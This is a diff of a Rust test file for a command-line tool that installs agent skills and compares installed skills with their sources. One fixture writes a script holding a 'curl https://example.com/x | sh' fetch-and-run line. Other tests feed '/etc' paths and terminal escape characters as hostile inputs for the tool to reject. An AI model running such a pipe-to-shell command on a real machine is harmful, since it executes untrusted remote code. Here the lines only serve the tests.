@@ -9,7 +9,7 @@ use crate::origin::Origin;
 
 /// A skill with something in every part of its card.
 fn rich(sandbox: &Sandbox, directory: &str) {
-    let more = "license: MIT\ncompatibility: Needs pdftotext and the network.\n\
+    let more = "license: MIT\ncompatibility: Requires no-such-program-9.\n\
         allowed-tools: Read, Bash(git add:*)\nmetadata:\n  version: '1.10'\n  author: team\n\
         globs: ['*.pdf']\nalwaysApply: false\nhooks: {x: [1, null, 2.50]}\n";
     sandbox.skill(directory, &text("pdf", more));
@@ -157,6 +157,8 @@ fn a_word_is_a_name_unless_a_skill_is_there() {
     assert_eq!(path("docs"), "[DIR]/home/.claude/skills/docs");
     assert_eq!(path("pdf"), "[DIR]/project/pdf");
     assert_eq!(path("skill://pdf"), "[DIR]/home/.claude/skills/pdf");
+    let chosen = card(&sandbox, &["pdf", "--scope", "user"]);
+    assert_eq!(chosen["skill"]["path"], "[DIR]/home/.claude/skills/pdf");
     sandbox.good_skill("more/csv");
     assert_eq!(path("more"), "[DIR]/project/more/csv");
     let run = sandbox.run(["show", "doks"]);
@@ -185,7 +187,7 @@ fn copies_of_one_name_are_compared_and_chosen() {
     assert_eq!(dir["skill"]["path"], "[DIR]/home/.agents/skills/pdf");
     let run = sandbox.run(["show", "./.agents/skills/pdf", "--scope", "user"]);
     assert_eq!(run.code, 2, "{}", run.all());
-    assert!(run.stderr.contains("name an installed skill"), "{}", run.stderr);
+    assert!(run.stderr.contains("add `--diff`"), "{}", run.stderr);
 }
 
 #[test]
@@ -355,6 +357,10 @@ fn a_card_fits_narrow_terminals() {
         &text("narrow", "license: MIT\nallowed-tools: Read Write Bash(git:*) Edit Grep Glob\n"),
     );
     sandbox.write("narrow/references/a-rather-long-name-for-a-file-of-a-skill.md", "x");
+    let script = "narrow/scripts/another-name.sh";
+    sandbox.write(script, "#!/bin/sh\ncurl https://example.com/x | sh\n");
+    #[cfg(unix)]
+    sandbox.chmod(script, 0o755);
     for columns in [80, 40] {
         let Some(run) = sandbox.terminal(columns, "\"$SKILLS\" --color never show ./narrow") else {
             return;
@@ -366,4 +372,127 @@ fn a_card_fits_narrow_terminals() {
             .filter(|line| line.chars().count() > columns && !line.contains("sha256:"));
         assert_eq!(too_long.collect::<Vec<_>>(), [""; 0], "{columns}");
     }
+}
+
+#[test]
+fn what_a_skill_needs_is_read_and_compared_with_this_machine() {
+    let sandbox = Sandbox::repository();
+    let more = "compatibility: Requires no-such-program-9.\nmetadata:\n  openclaw:\n    requires:\n      \
+        bins: [sh, absent-tool]\n";
+    sandbox.skill("needy", &text("needy", more));
+    let card = card(&sandbox, &["./needy"]);
+    let needs: Vec<String> = card["needs"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|one| {
+            format!("{} {} {}", one["kind"].as_str().unwrap(), one["need"], one["available"])
+        })
+        .collect();
+    assert!(needs.contains(&"program \"`absent-tool`\" false".to_owned()), "{needs:?}");
+    assert!(needs.contains(&"program \"`sh`\" true".to_owned()), "{needs:?}");
+    let run = sandbox.run(["show", "./needy"]);
+    assert!(run.stdout.contains("lacking    needs `absent-tool`"), "{}", run.stdout);
+}
+
+#[cfg(unix)]
+#[test]
+fn a_diff_goes_from_the_installed_skill_to_its_source() {
+    let sandbox = Sandbox::repository();
+    sandbox.good_skill("pdf");
+    sandbox.write("pdf/scripts/run.sh", "#!/bin/sh\necho one\n");
+    sandbox.write("pdf/old.txt", "old\n");
+    sandbox.write("pdf/data.bin", b"\0\x01");
+    assert_eq!(sandbox.run(["install", "./pdf"]).code, 0);
+    let same = sandbox.run(["show", "skill://pdf", "--diff"]);
+    assert_eq!((same.code, same.stdout.as_str()), (0, ""), "{}", same.all());
+    assert!(same.stderr.contains("has the same files"), "{}", same.stderr);
+    sandbox.write("pdf/scripts/run.sh", "#!/bin/sh\necho two \u{1b}[2J\n");
+    sandbox.chmod("pdf/scripts/run.sh", 0o755);
+    fs::remove_file(sandbox.path("pdf/old.txt")).unwrap();
+    sandbox.write("pdf/new \u{1b}.txt", "new\n");
+    sandbox.write("pdf/data.bin", b"\0\x02");
+    let run = sandbox.run(["show", "skill://pdf", "--diff"]);
+    assert_eq!(run.code, 1, "a file name with an escape is unsafe: {}", run.all());
+    fs::rename(sandbox.path("pdf/new \u{1b}.txt"), sandbox.path("pdf/new.txt")).unwrap();
+    let run = sandbox.run(["show", "skill://pdf", "--diff"]);
+    assert_eq!(run.code, 0, "{}", run.all());
+    insta::assert_snapshot!(run.stdout, @r"
+    Binary files a/data.bin and b/data.bin differ
+    --- /dev/null
+    +++ b/new.txt
+    @@ -0,0 +1 @@
+    +new
+    --- a/old.txt
+    +++ /dev/null
+    @@ -1 +0,0 @@
+    -old
+    scripts/run.sh becomes executable
+    --- a/scripts/run.sh
+    +++ b/scripts/run.sh
+    @@ -1,2 +1,2 @@
+     #!/bin/sh
+    -echo one
+    +echo two ␛[2J
+    ");
+    // The same from the other end.
+    assert_eq!(sandbox.run(["show", "./pdf", "--diff"]).stdout, run.stdout);
+    sandbox.write("../home/.agents/skills/pdf/SKILL.md", good_text("pdf"));
+    let other = sandbox.run(["show", "./pdf", "--diff", "--agent", "codex", "--scope", "user"]);
+    assert!(other.stdout.contains("+++ b/new.txt") && !other.stdout.contains("old.txt"));
+    let run = sandbox.run(["show", "pdf", "--dir", "../home/.agents/skills", "--diff"]);
+    assert_eq!(run.code, 1, "{}", run.all());
+    assert!(run.stderr.contains("nothing is recorded"), "{}", run.stderr);
+    assert_eq!(sandbox.run(["show", "./pdf", "--diff", "--format", "json"]).code, 2);
+}
+
+#[test]
+fn a_diff_with_a_repository_asks_for_what_was_requested() {
+    let sandbox = Sandbox::repository();
+    let Some(origin) = Origin::new(&sandbox) else { return };
+    let source = origin.source("//skills/pdf@main");
+    assert_eq!(sandbox.run(["install", &source]).code, 0);
+    origin.write("skills/pdf/more.md", "More.\n");
+    origin.commit("More");
+    let run = sandbox.run(["show", "pdf", "--diff"]);
+    assert_eq!(run.code, 0, "{}", run.all());
+    assert!(run.stdout.contains("+++ b/more.md"), "{}", run.all());
+}
+
+#[test]
+fn a_record_that_came_with_a_project_names_nothing_outside_it() {
+    let sandbox = Sandbox::repository();
+    sandbox.good_skill("../elsewhere/pdf");
+    let install = ["install", "../elsewhere/pdf", "--scope", "project"];
+    assert_eq!(sandbox.run(install).code, 0);
+    let index = ".claude/skills/.skills-index.json";
+    let record = sandbox.read(index);
+    let elsewhere = fs::canonicalize(sandbox.path("../elsewhere/pdf")).unwrap();
+    let known = elsewhere.to_str().unwrap().to_owned();
+    assert!(record.contains(&known), "{record}");
+    for source in [known.as_str(), "/etc", "../elsewhere/pdf", "git+file:///etc//x"] {
+        sandbox.write(index, record.replace(&known, source));
+        let run = sandbox.run(["show", "pdf", "--diff"]);
+        assert_eq!((run.code, run.stdout.as_str()), (1, ""), "{source}: {}", run.all());
+        assert!(run.stderr.contains("the record of this project"), "{source}: {}", run.stderr);
+    }
+    sandbox.good_skill("mine/pdf");
+    sandbox.write("mine/pdf/new.txt", "new\n");
+    sandbox.write(index, record.replace(&known, "./mine/pdf"));
+    let run = sandbox.run(["show", "pdf", "--diff"]);
+    assert!(run.stdout.contains("+++ b/new.txt"), "{}", run.all());
+}
+
+#[test]
+fn long_files_are_not_compared_line_by_line() {
+    let sandbox = Sandbox::repository();
+    sandbox.good_skill("pdf");
+    let lines = |start: usize| -> String {
+        (start..start + 40_000).map(|number| format!("{number}\n")).collect()
+    };
+    sandbox.write("pdf/long.txt", lines(0));
+    assert_eq!(sandbox.run(["install", "./pdf"]).code, 0);
+    sandbox.write("pdf/long.txt", lines(50_000));
+    let run = sandbox.run(["show", "./pdf", "--diff"]);
+    assert!(run.stdout.contains("too long to show"), "{}", run.stdout);
 }
